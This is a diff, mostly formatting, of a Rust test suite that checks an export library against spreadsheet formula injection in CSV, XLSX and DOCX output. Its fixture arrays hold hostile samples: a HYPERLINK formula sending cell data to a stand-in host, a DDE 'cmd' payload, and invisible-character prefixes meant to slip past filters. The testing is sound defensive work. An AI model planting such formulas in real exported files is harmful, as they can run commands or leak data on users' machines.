@@ -22,12 +22,10 @@ const STRINGS: usize = 10_000;
 
 /// What stands before a formula so that a filter does not see it.
 const BEFORE: [&str; 20] = [
-    "", "", "", " ", "   ", "\t", "\r", "\n", "\r\n", "\u{a0}", "\u{200b}", "\u{feff}", "\u{202e}", "\u{2066}", "\u{ad}",
-    "\u{0}", "\u{b}", "'", "\"", "\";",
+    "", "", "", " ", "   ", "\t", "\r", "\n", "\r\n", "\u{a0}", "\u{200b}", "\u{feff}", "\u{202e}", "\u{2066}",
+    "\u{ad}", "\u{0}", "\u{b}", "'", "\"", "\";",
 ];
-const STARTS: [&str; 14] = [
-    "=", "+", "-", "@", "＝", "＋", "－", "＠", "=+", "@=", "|", "%", "", "",
-];
+const STARTS: [&str; 14] = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "=+", "@=", "|", "%", "", ""];
 const BODIES: [&str; 24] = [
     "HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")",
     "cmd|' /C calc'!A0",
@@ -75,9 +73,24 @@ fn strings() -> Vec<String> {
 }
 
 const COLUMNS: &[Column] = &[
-    Column { title: "Số", key: "no", width: 8, meaning: "Số thứ tự." },
-    Column { title: "Tên", key: "name", width: 40, meaning: "Một tên bất kỳ." },
-    Column { title: "Sau", key: "after", width: 8, meaning: "Phải còn nguyên." },
+    Column {
+        title: "Số",
+        key: "no",
+        width: 8,
+        meaning: "Số thứ tự.",
+    },
+    Column {
+        title: "Tên",
+        key: "name",
+        width: 40,
+        meaning: "Một tên bất kỳ.",
+    },
+    Column {
+        title: "Sau",
+        key: "after",
+        width: 8,
+        meaning: "Phải còn nguyên.",
+    },
 ];
 
 fn written(format: Format, strings: &[String]) -> Vec<u8> {
@@ -85,11 +98,17 @@ fn written(format: Format, strings: &[String]) -> Vec<u8> {
     let layout = Layout {
         name: "Phiếu",
         columns: COLUMNS,
-        about: strings.iter().take(50).map(|text| (text.clone(), text.clone())).collect(),
+        about: strings
+            .iter()
+            .take(50)
+            .map(|text| (text.clone(), text.clone()))
+            .collect(),
     };
     let mut writer = Writer::begin(format, layout, &mut out).unwrap();
     for (no, text) in (1i64..).zip(strings) {
-        writer.row(&[no.into(), Cell::Text(text.clone()), Cell::text("hết")]).unwrap();
+        writer
+            .row(&[no.into(), Cell::Text(text.clone()), Cell::text("hết")])
+            .unwrap();
     }
     writer.finish().unwrap();
     keep(&format!("hostile-{}.{}", separator(format), format.extension()), &out);
@@ -148,13 +167,20 @@ fn is_formula(cell: &str) -> bool {
 fn no_string_starts_a_formula_in_csv_and_each_comes_back() {
     let strings = strings();
     assert_eq!(strings.len(), STRINGS);
-    assert!(strings.iter().filter(|text| is_formula(text)).count() > 3_000, "they would if they could");
+    assert!(
+        strings.iter().filter(|text| is_formula(text)).count() > 3_000,
+        "they would if they could"
+    );
     for (format, separator) in [(Separator::Semicolon, ';'), (Separator::Comma, ',')] {
         let csv = String::from_utf8(written(Format::Csv(format), &strings)).unwrap();
         let rows = rows(csv.strip_prefix('\u{feff}').unwrap(), separator);
         assert_eq!(rows.len(), STRINGS + 1);
         for ((no, row), text) in (1..).zip(rows.iter().skip(1)).zip(&strings) {
-            assert_eq!((row.len(), row[0].as_str(), row[2].as_str()), (3, no.to_string().as_str(), "hết"), "{text:?}");
+            assert_eq!(
+                (row.len(), row[0].as_str(), row[2].as_str()),
+                (3, no.to_string().as_str(), "hết"),
+                "{text:?}"
+            );
             assert!(!is_formula(&row[1]), "{text:?}");
             assert_eq!(recover(&row[1]), text, "row {no}");
         }
@@ -173,7 +199,9 @@ fn no_string_is_a_formula_in_a_spreadsheet_and_each_comes_back() {
     let sheet = book.worksheet_range("Phiếu").unwrap();
     assert_eq!(sheet.height(), STRINGS + 1);
     for (row, text) in sheet.rows().skip(1).zip(&strings) {
-        let Data::String(found) = &row[1] else { panic!("{text:?}: {:?}", row[1]) };
+        let Data::String(found) = &row[1] else {
+            panic!("{text:?}: {:?}", row[1])
+        };
         assert_eq!(found, text);
         assert_eq!(row[2], Data::String("hết".into()), "{text:?}");
     }
@@ -190,7 +218,10 @@ fn no_string_breaks_a_report() {
     let table = Table {
         caption: strings[0].clone(),
         columns: vec![column("TT", 10, true), column(&strings[1], 90, false)],
-        rows: (1..).zip(&strings).map(|(no, text)| vec![no.to_string(), text.clone()]).collect(),
+        rows: (1..)
+            .zip(&strings)
+            .map(|(no, text)| vec![no.to_string(), text.clone()])
+            .collect(),
         total: false,
     };
     let paper = Paper {
@@ -199,7 +230,11 @@ fn no_string_breaks_a_report() {
         place_and_date: strings[702].clone(),
         title: "BÁO CÁO".into(),
         subject: strings[703].clone(),
-        blocks: vec![Block::Heading(strings[704].clone()), Block::Text(strings[705].clone()), Block::Table(table)],
+        blocks: vec![
+            Block::Heading(strings[704].clone()),
+            Block::Text(strings[705].clone()),
+            Block::Table(table),
+        ],
         annex: vec![Block::Note(strings[706].clone())],
         signature: vec![strings[707].clone()],
         receivers: vec![strings[708].clone()],
@@ -210,7 +245,10 @@ fn no_string_breaks_a_report() {
     keep("hostile.docx", &bytes);
     let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
     let mut xml = String::new();
-    zip.by_name("word/document.xml").unwrap().read_to_string(&mut xml).unwrap();
+    zip.by_name("word/document.xml")
+        .unwrap()
+        .read_to_string(&mut xml)
+        .unwrap();
     let found = texts(&xml);
     for text in &strings {
         let legal: String = text.chars().filter(|c| is_xml(*c)).collect();
@@ -251,6 +289,6 @@ fn texts(xml: &str) -> std::collections::HashSet<String> {
 
 fn unescape(text: &str) -> String {
     let text = text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"");
-    assert!(!text.replace("&amp;", "").contains('&') , "{text:?}");
+    assert!(!text.replace("&amp;", "").contains('&'), "{text:?}");
     text.replace("&amp;", "&")
 }
